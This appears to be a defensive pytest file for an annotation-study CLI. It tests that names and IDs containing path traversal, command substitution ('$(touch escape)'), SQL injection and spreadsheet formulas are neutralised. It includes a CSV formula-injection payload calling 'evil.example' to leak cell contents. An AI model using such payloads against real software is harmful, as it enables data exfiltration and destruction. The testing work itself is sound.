"""Names that are paths, tricks or formulas: they name things, and nothing else."""

import csv
from pathlib import Path

import pytest

from data.gold_files import FORMULA_SIGNS
from tests.conftest import Run
from tests.study_maker import draw_batch, label, make_study, numbered, verdict

TRICKS = (
    "../../escape",
    "/etc/escape",
    "..",
    "a/b",
    "C:\\escape",
    "%2e%2e%2fescape",
    "$(touch escape)",
    "'; DROP TABLE batches; --",
    "=1+1",
)
UNSEEN = ("", " ", "a\nb", "a\x00b", "a\x1b[2Jb", "a\u202eb", "a\tb")


def everything(folder: Path) -> set[str]:
    return {str(path.relative_to(folder)) for path in folder.rglob("*") if not path.name.startswith("study.db-")}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    study = make_study(tmp_path / "in" / "study", numbered(12, labels=[label("ana", "aligned"), label("ben", "aligned")]))
    return study.folder


def test_a_name_that_is_a_path_writes_nothing_anywhere(run: Run, folder: Path, tmp_path: Path) -> None:
    there = everything(tmp_path)
    for number, name in enumerate(TRICKS):
        assert run("draw", "--n", 1, f"--name={name}", "--study", folder).returncode == 0, name
        assert run("batch", "pause", name, "--study", folder).returncode == 0, name
        assert run("annotators", "add", name, "--study", folder).returncode == 0, name
        assert run("gold", "freeze", name, "--study", folder).returncode == 0, name
        assert (
            run("gold", "export", name, "--format", "csv", "--out", tmp_path / f"out-{number}.csv", "--study", folder).returncode
            == 0
        )
        assert run("annotators", "revoke", name, "--study", folder).returncode == 0, name
    assert everything(tmp_path) - there == {f"out-{n}.csv{end}" for n in range(len(TRICKS)) for end in ("", ".manifest.json")}
    assert run("verify", "--study", folder).returncode == 0
    listed = run("batch", "list", "--study", folder).stdout
    assert all(f"{name} (paused)" in listed for name in TRICKS)


def test_a_name_that_cannot_be_seen_is_refused_everywhere(run: Run, folder: Path) -> None:
    for name in UNSEEN:
        if "\x00" in name:
            continue  # no process can be given one
        for words in (["draw", "--n", "1", f"--name={name}"], ["annotators", "add", name], ["gold", "freeze", name]):
            refused = run(*words, "--study", folder).refused()
            assert len(refused) == 3, (words, refused)


@pytest.mark.parametrize("id", ["../x", "a/b", "", " ", "a\\n", "..", "é", "=1"])
def test_a_questions_id_is_never_a_path_to_its_codebook_page(run: Run, folder: Path, tmp_path: Path, id: str) -> None:
    toml = folder / "study.toml"
    toml.write_text(toml.read_text(encoding="utf-8").replace('id = "misaligned"', f'id = "{id}"'), encoding="utf-8")
    there = everything(tmp_path)
    for words in ("status", "draw --n 1", "agree"):
        assert len(run(*words.split(), "--study", folder).refused()) == 3
    assert everything(tmp_path) == there


def test_no_cell_of_a_csv_that_is_written_is_a_formula(run: Run, tmp_path: Path) -> None:
    signs = list(FORMULA_SIGNS)
    lines = numbered(len(signs))
    for line, sign in zip(lines, signs, strict=True):
        attack = f'{sign}HYPERLINK("http://evil.example?"&A1)'
        line |= {
            "id": attack, "task": attack, "group": attack,
            "steps": [{"kind": "message", "text": attack}],
            "labels": [label("=ana", "aligned", rationale=attack), label("@ben", "aligned")],
            "verdicts": [verdict("aligned", run="=judge", rationale=attack)],
        }  # fmt: skip
    study = make_study(tmp_path / "study", lines)
    draw_batch(study, 1)
    for names in ([], ["--names"]):
        gold = f"gold{len(names)}"
        assert run("gold", "freeze", gold, *names, "--study", study.folder).returncode == 0
        assert (
            run("gold", "export", gold, "--format", "csv", "--out", tmp_path / f"{gold}.csv", "--study", study.folder).returncode
            == 0
        )
        with (tmp_path / f"{gold}.csv").open(encoding="utf-8", newline="") as file:
            cells = [cell for row in list(csv.reader(file))[1:] for cell in row]
        assert sum("HYPERLINK" in cell for cell in cells) >= 3 * len(signs)
        assert [cell for cell in cells if cell.startswith(tuple(FORMULA_SIGNS))] == []
